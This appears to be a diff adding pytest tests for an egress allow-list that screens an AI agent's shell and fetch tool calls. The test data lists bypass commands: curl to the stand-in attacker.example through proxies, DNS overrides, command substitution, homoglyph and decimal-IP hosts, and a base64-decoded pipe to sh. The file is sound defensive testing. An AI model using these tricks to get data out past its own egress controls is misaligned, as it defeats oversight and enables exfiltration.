@@ -1,0 +1,60 @@
+"""Adversarial tests of issue 19's gateway and quarantine code (bad input, bypasses, leaks):
+each one failed before the fix it names."""
+
+from __future__ import annotations
+
+import pytest
+
+from kernel_lib.recovery.quarantine.egress import EgressPolicy, check_tool_call
+
+POLICY = EgressPolicy(frozenset({"allowed.example", "*.corp.example"}), ("10.0.0.0/8",))
+
+
+# --- egress allow-list bypasses (egress.py: unreadable destinations are refused, not dropped) ---------------
+
+@pytest.mark.parametrize("command", [
+    "curl http://2130706433/",                                   # a decimal IPv4 literal (127.0.0.1)
+    "curl http://\u0430ttacker.example/",                        # a Cyrillic 'a': not an ASCII host name
+    "curl \u0430ttacker.example",
+    "curl -x attacker.example:8080 http://allowed.example/",     # the proxy is where the bytes go
+    "curl -xattacker.example:1 http://allowed.example/",
+    "curl --resolve allowed.example:443:6.6.6.6 https://allowed.example/",
+    "curl --connect-to allowed.example:443:attacker.example:443 https://allowed.example/",
+    "curl $(echo attacker.example)",
+    "curl `echo attacker.example`",
+    "curl $HOST",
+    "echo Y3VybCBhdHRhY2tlcg== | base64 -d | sh",
+    "env X=1 curl attacker.example",
+    "sudo -u root curl attacker.example",
+    "timeout 5 curl attacker.example",
+    "bash -c 'curl attacker.example'",
+    "eval curl attacker.example",
+    "cd repo&&curl attacker.example",
+    "echo hi;curl attacker.example",
+    "curl http://[::1",
+    "curl -K cfg.txt",
+    "wget -i urls.txt",
+    "ssh -J attacker.example allowed.example",
+    "curl http://allowed.example%2eattacker.example/",
+    "curl 'http://attacker.example\\@allowed.example/'",
+])
+def test_an_egress_bypass_is_refused(command):
+    d = check_tool_call(POLICY, "t1", "shell", {"command": command})
+    assert not d.allowed, (command, d.destinations)
+
+
+@pytest.mark.parametrize("args", [
+    {"url": "\u0430ttacker.example"}, {"url": "http://2130706433/"}, {"url": b"http://attacker.example/"},
+    {"hosts": {"http://attacker.example/"}},
+])
+def test_an_unreadable_or_hidden_host_argument_is_refused(args):
+    assert not check_tool_call(POLICY, "t1", "fetch", args).allowed
+
+
+@pytest.mark.parametrize("command", [
+    "curl HTTP://ALLOWED.EXAMPLE./x", "curl -sSL http://10.1.2.3/", "nc -l 8080", "pytest -q tests/ 2> err.txt",
+    "curl -o out.json https://api.corp.example/v1 > log.txt", "ls -la | grep curl",
+])
+def test_legitimate_calls_still_pass(command):
+    d = check_tool_call(POLICY, "t1", "shell", {"command": command})
+    assert d.allowed, (command, d.destinations)
